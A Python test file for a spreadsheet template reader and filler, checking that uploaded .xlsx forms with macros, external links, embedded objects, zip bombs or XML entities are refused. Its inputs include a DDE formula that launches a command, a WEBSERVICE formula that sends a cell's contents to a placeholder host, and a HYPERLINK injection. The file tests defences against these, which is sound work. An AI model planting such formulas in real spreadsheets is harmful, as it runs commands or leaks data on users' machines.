"""Templates: what may be opened, what a cell probably wants, and that filling leaves the form as it came."""

import contextlib
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from matcher.documents.template_bindings import (
    CellBinding,
    Known,
    check_bindings,
    open_places,
)
from matcher.documents.template_errors import TemplateError
from matcher.documents.template_filling import FigureValue, Filling, fill_template, preview
from matcher.documents.template_grids import MOST_ROWS, read_grid
from matcher.documents.template_guard import calls_out
from matcher.documents.template_suggestions import KnownIndicator, suggest
from matcher.statistics.indicator_names import names_by_code
from matcher.statistics.indicators import indicators_by_code, sheet_indicators
from tests.factories.sheet_templates import (
    bytes_of,
    make_list_template,
    make_wide_template,
    with_part,
)

KNOWN = tuple(
    KnownIndicator(
        one.code, (one.label, *names_by_code().get(one.code, ())), one.unit.label, one.has_earlier
    )
    for one in sheet_indicators()
)
UNIONS = ((7, "兴庆区总工会"), (8, "金凤区总工会"))
CODES = Known(frozenset(indicators_by_code()), frozenset({7, 8}))
RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://x/oleObject" Target="file:///c:/x" TargetMode="External"/>'
    b"</Relationships>"
)


def _zip_bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (41 * 1024 * 1024))
    return target.getvalue()


def _with_formula(formula: str) -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "数"
    book.active["C3"] = formula
    return bytes_of(book)


def _tall() -> bytes:
    book = openpyxl.Workbook()
    book.active.cell(MOST_ROWS + 5, 1, "末行")
    return bytes_of(book)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "template_not_xlsx"),
        (b"a,b\n1,2", "template_not_xlsx"),
        (b"%PDF-1.7", "template_not_xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "template_old"),
        (b"PK\x03\x04 broken", "template_damaged"),
        (_zip_bomb(), "template_large"),
        (b"PK" + b"\0" * (6 * 1024 * 1024), "template_large"),
        (_tall(), "template_large"),
        (with_part(make_list_template(), "xl/vbaProject.bin", b"x"), "template_macro"),
        (with_part(make_list_template(), "xl/macrosheets/sheet1.xml", b"<a/>"), "template_macro"),
        (
            with_part(make_list_template(), "xl/externalLinks/externalLink1.xml", b"<a/>"),
            "template_links",
        ),
        (with_part(make_list_template(), "xl/embeddings/ole1.bin", b"x"), "template_objects"),
        (with_part(make_list_template(), "xl/connections.xml", b"<a/>"), "template_connections"),
        (with_part(make_list_template(), "xl/worksheets/_rels/s.rels", RELS), "template_links"),
        (
            with_part(make_list_template(), "xl/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'),
            "template_entities",
        ),
        (_with_formula('=WEBSERVICE("http://x/"&A1)'), "template_links"),
        (_with_formula("=[1]Sheet1!A1"), "template_links"),
        (_with_formula("=cmd|'/C calc'!A0"), "template_links"),
    ],
)
def test_what_runs_fetches_or_swells_is_refused_with_a_reason(content: bytes, code: str) -> None:
    with pytest.raises(TemplateError) as refused:
        read_grid(content)

    assert refused.value.code == code
    assert refused.value.message.endswith("。")


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300), st.integers(min_value=0, max_value=3_000))
def test_a_broken_file_is_refused_and_nothing_else_happens(noise: bytes, at: int) -> None:
    whole = make_list_template()
    broken = whole[:at] + noise + whole[at + len(noise) :]

    with contextlib.suppress(TemplateError):
        read_grid(broken)


def test_ordinary_formulas_are_kept_and_do_not_call_out() -> None:
    assert not calls_out("=SUM(D5:D9)/IF(B2=0,1,B2)")
    assert not calls_out("='附件 2'!B5&\"元\"")
    assert read_grid(_with_formula("=SUM(A1:B2)")).sheets[0].find("C3").is_formula  # type: ignore[union-attr] # there


def test_a_grid_knows_labels_open_cells_merged_blocks_and_hidden_sheets() -> None:
    grid = read_grid(make_wide_template())
    sheet = grid.sheets[0]
    title = sheet.find("A1")

    assert title is not None
    assert (title.column_span, title.is_label) == (8, True)
    assert sheet.find("B1") is None
    assert sheet.find("B4") is not None
    assert grid.sheets[1].is_hidden
    assert ("汇总", "B4") in [(name, cell.ref) for name, cell in open_places(grid, [])]
    assert all(name != "说明" for name, _ in open_places(grid, []))


def test_a_long_list_is_recognised_by_label_unit_and_column() -> None:
    found = suggest(read_grid(make_list_template()), KNOWN)
    said = {ref: (one.binding.code, one.binding.part) for (_, ref), one in found.items()}

    assert said["D5"] == ("graduates", "value")
    assert said["E5"] == ("graduates", "earlier")
    assert said["D8"] == ("need_help", "value")
    assert said["E8"] == ("need_help", "earlier")
    assert said["D11"] == ("helped", "value")
    assert found["附件2", "D10"].binding.in_wan
    assert said["B2"] == ("@union", "value")
    assert said["E15"] == ("@reviewed_by", "value")
    assert "D13" not in said  # 食堂满意度 is no indicator
    assert "D14" not in said  # a formula
    assert "E4" not in said  # households have no earlier years


def test_a_wide_table_is_recognised_by_heads_above_and_unions_beside() -> None:
    found = suggest(read_grid(make_wide_template()), KNOWN, UNIONS)
    said = {
        ref: (one.binding.code, one.binding.part, one.binding.union_id)
        for (_, ref), one in found.items()
    }

    assert said["B4"] == ("graduates", "this_year", 7)
    assert said["C5"] == ("graduates", "earlier", 8)
    assert said["E4"] == ("fairs_on_site", "value", 7)
    assert said["G6"] == ("helped", "value", None)
    assert found["汇总", "H4"].binding.in_wan


def test_bindings_that_do_not_hold_are_told_each_with_its_cell() -> None:
    grid = read_grid(make_list_template())
    bindings = [
        CellBinding("附件2", "D5", "graduates"),
        CellBinding("附件2", "D5", "helped"),
        CellBinding("附件2", "B5", "graduates"),
        CellBinding("附件2", "D14", "graduates"),
        CellBinding("附件2", "ZZ99", "graduates"),
        CellBinding("别的表", "D5", "graduates"),
        CellBinding("附件2", "D6", "no_such_code"),
        CellBinding("附件2", "D7", "graduates", union_id=99),
        CellBinding("附件2", "A2", "@union"),
    ]

    problems = {(one.ref, one.sheet): one.code for one in check_bindings(grid, bindings, CODES)}

    assert problems == {
        ("D5", "附件2"): "binding_cell_twice",
        ("B5", "附件2"): "binding_cell_taken",
        ("D14", "附件2"): "binding_cell_formula",
        ("ZZ99", "附件2"): "binding_cell_unknown",
        ("D5", "别的表"): "binding_cell_unknown",
        ("D6", "附件2"): "binding_code_unknown",
        ("D7", "附件2"): "binding_union_unknown",
    }


FILLING = Filling(
    {
        ("graduates", "value", None): FigureValue("count", 192),
        ("job_aid_fen", "value", None): FigureValue("fen", 50_590_000),
        ("helped_rate", "value", None): FigureValue("percent", 8868),
        ("helped", "value", None): FigureValue("count", None),
    },
    {"@union": '=HYPERLINK("http://x")', "@digest": "ab" * 32},
)
BINDINGS = (
    CellBinding("附件2", "D5", "graduates"),
    CellBinding("附件2", "D10", "job_aid_fen", in_wan=True),
    CellBinding("附件2", "D12", "helped_rate"),
    CellBinding("附件2", "D13", "helped_rate"),
    CellBinding("附件2", "D11", "helped"),
    CellBinding("附件2", "B2", "@union"),
    CellBinding("附件2", "Z9", "graduates"),
)


def test_filling_writes_numbers_and_keeps_formats_formulas_and_merged_blocks() -> None:
    before = openpyxl.load_workbook(io.BytesIO(make_list_template()))["附件2"]

    made = fill_template(make_list_template(), BINDINGS, FILLING)

    book = openpyxl.load_workbook(io.BytesIO(made.content))
    sheet = book["附件2"]
    assert (sheet["D5"].value, sheet["D10"].value) == (192, 50.59)
    assert (sheet["D12"].value, sheet["D13"].value) == (0.8868, 88.68)
    assert sheet["D12"].number_format == "0.0%"
    assert sheet["D14"].value == "=D5-D6-D7"
    assert sheet.merged_cells.ranges == before.merged_cells.ranges
    assert repr(sheet["A1"].font) == repr(before["A1"].font)
    assert repr(sheet["A3"].fill) == repr(before["A3"].fill)
    assert sheet.column_dimensions["B"].width == 40
    assert book.calculation.fullCalcOnLoad
    assert [one.value for one in book.custom_doc_props.props] == ["ab" * 32]
    assert [one.ref for one in made.missing] == ["D11"]
    assert [one.ref for one in made.skipped] == ["Z9"]
    assert sheet["D11"].value is None


def test_a_word_is_never_a_formula_in_a_filled_form() -> None:
    made = fill_template(make_list_template(), BINDINGS, FILLING)

    cell = openpyxl.load_workbook(io.BytesIO(made.content))["附件2"]["B2"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://x")', "s")


def test_a_word_is_written_behind_the_colon_of_its_label() -> None:
    made = fill_template(
        make_list_template(),
        [CellBinding("附件2", "A2", "@union")],
        Filling({}, {"@union": "某区"}),
    )

    assert openpyxl.load_workbook(io.BytesIO(made.content))["附件2"]["A2"].value == "填报单位：某区"


def test_a_preview_shows_what_the_file_would_hold() -> None:
    grid = read_grid(make_list_template())

    shown = preview(grid, BINDINGS, FILLING)

    assert shown["附件2", "D5"] == 192
    assert shown["附件2", "D11"] is None
    assert ("附件2", "Z9") not in shown


def test_other_names_of_indicators_are_of_indicators() -> None:
    assert set(names_by_code()) <= {one.code for one in sheet_indicators()}
